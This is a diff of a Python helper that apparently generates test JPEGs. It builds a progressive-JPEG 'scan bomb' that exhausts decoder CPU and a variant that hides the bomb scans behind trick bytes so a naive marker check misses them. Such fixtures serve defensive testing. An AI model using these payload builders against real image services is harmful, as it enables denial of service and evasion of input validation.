@@ -11,7 +11,7 @@ import zlib
 from PIL import Image
 
 
-def _segment(marker: int, payload: bytes) -> bytes:
+def segment(marker: int, payload: bytes) -> bytes:
     return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
 
 
@@ -34,35 +34,80 @@ class _Bits:
         return bytes(self.out)
 
 
+EOI = b"\xff\xd9"
+
+
+def _blocks(width: int, height: int) -> int:
+    return -(-width // 8) * -(-height // 8)
+
+
+def jpeg_head(width: int, height: int, components: int = 1, restart_interval: int = 0, frame: int = 0xC2) -> bytes:
+    """SOI and the tables of the JPEGs built here: every quantiser 1; DC codes '0' (difference 0) and '10'
+    (a difference of 8 bits); one AC code (an end-of-band run of 2^14 + 14 bits); a frame of `components`
+    components sampled 1×1, ids 1…; a restart interval when given."""
+    out = bytearray(b"\xff\xd8")
+    out += segment(0xDB, bytes([0]) + bytes([1] * 64))
+    out += segment(frame, struct.pack(">BHHB", 8, height, width, components)
+                    + b"".join(bytes([i + 1, 0x11, 0]) for i in range(components)))
+    out += segment(0xC4, bytes([0x00]) + bytes([1, 1] + [0] * 14) + bytes([0x00, 0x08]))
+    out += segment(0xC4, bytes([0x10]) + bytes([1] + [0] * 15) + bytes([0xE0]))
+    if restart_interval:
+        out += segment(0xDD, struct.pack(">H", restart_interval))
+    return bytes(out)
+
+
+def dc_scan(width: int, height: int, components: int = 1, lift: int = 0) -> bytes:
+    """The DC scan of every component: each block's DC difference 0, except that with `lift` (128–255) the
+    first block's is +lift, which (all later differences 0) brightens the whole first component by about
+    lift / 8 once decoded: what shows that a decoder read this scan."""
+    if lift and not 128 <= lift <= 255:
+        raise ValueError("lift is a difference of 8 bits: 128-255")
+    bits = _Bits()
+    for i in range(_blocks(width, height) * components):
+        if i == 0 and lift:
+            bits.put(0b10, 2)
+            bits.put(lift, 8)
+        else:
+            bits.put(0, 1)
+    return (segment(0xDA, bytes([components]) + b"".join(bytes([i + 1, 0x00]) for i in range(components))
+                     + bytes([0, 0, 0])) + bits.flush())
+
+
+def ac_scan(width: int, height: int, component: int = 0, ah: int = 0, al: int = 0) -> bytes:
+    """An AC scan (band 1–63) of one component, a few bytes of end-of-band runs whatever the image's size,
+    which still makes libjpeg visit every block."""
+    bits = _Bits()
+    for _ in range(-(-_blocks(width, height) // 32767)):
+        bits.put(0, 1)
+        bits.put(0x3FFF, 14)
+    return segment(0xDA, bytes([1, component + 1, 0x00, 1, 63, (ah << 4) | al])) + bits.flush()
+
+
 def progressive_jpeg(width: int, height: int, scans: list[tuple[int, int, int]], components: int = 1) -> bytes:
     """A progressive JPEG: one DC scan of every component, then `scans` as (component index, Ah, Al) AC scans
     over the band 1–63, each one end-of-band run after another."""
-    blocks = -(-width // 8) * -(-height // 8)
-    out = bytearray(b"\xff\xd8")
-    out += _segment(0xDB, bytes([0]) + bytes([1] * 64))
-    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, components)
-                    + b"".join(bytes([i + 1, 0x11, 0]) for i in range(components)))
-    out += _segment(0xC4, bytes([0x00]) + bytes([1] + [0] * 15) + bytes([0x00]))  # DC: one code, difference 0
-    out += _segment(0xC4, bytes([0x10]) + bytes([1] + [0] * 15) + bytes([0xE0]))  # AC: one code, EOB run 2^14+
-    out += _segment(0xDA, bytes([components]) + b"".join(bytes([i + 1, 0x00]) for i in range(components))
-                    + bytes([0, 0, 0]))
-    dc = _Bits()
-    for _ in range(blocks * components):
-        dc.put(0, 1)
-    out += dc.flush()
-    ac = _Bits()
-    for _ in range(-(-blocks // 32767)):
-        ac.put(0, 1)
-        ac.put(0x3FFF, 14)
-    runs = ac.flush()
-    for component, ah, al in scans:
-        out += _segment(0xDA, bytes([1, component + 1, 0x00, 1, 63, (ah << 4) | al])) + runs
-    return bytes(out + b"\xff\xd9")
+    return (jpeg_head(width, height, components) + dc_scan(width, height, components)
+            + b"".join(ac_scan(width, height, *scan) for scan in scans) + EOI)
 
 
 def scan_bomb(scans: int, width: int = 4096, height: int = 4096) -> bytes:
     """The attack: the same AC scan repeated (the attacker's 1 MB file had 27,000 of them: 56 s of CPU)."""
     return progressive_jpeg(width, height, [(0, 0, 0)] * scans)
+
+
+def hidden_scans(trick: bytes = b"", scans: int = 150, width: int = 1024, height: int = 1024, *, lift: int = 0,
+                 wrap=None, restart_interval: int = 0, where: str = "after the first scan") -> bytes:
+    """The second round's attack: a grey progressive JPEG with `trick` (bytes a naive walk of the markers
+    stops at, or skips over) after its first scan, or before it, then the hidden part: with `lift`, a DC scan
+    that brightens the picture (so a decode shows whether libjpeg read past the trick), then `scans` AC scans
+    (the scan bomb; 150 of them over 1024×1024 go past the scan count). `wrap(hidden)`, when given, returns
+    the bytes that stand for the hidden part (a segment that seems to hold it)."""
+    hidden = (dc_scan(width, height, lift=lift) if lift else b"") + ac_scan(width, height) * scans
+    hidden = wrap(hidden) if wrap else hidden
+    head, first = jpeg_head(width, height, restart_interval=restart_interval), dc_scan(width, height)
+    if where == "before the first scan":
+        return head + trick + first + hidden + EOI
+    return head + first + trick + hidden + EOI
 
 
 def refinement_bomb(scans: int, width: int = 4096, height: int = 4096) -> bytes:
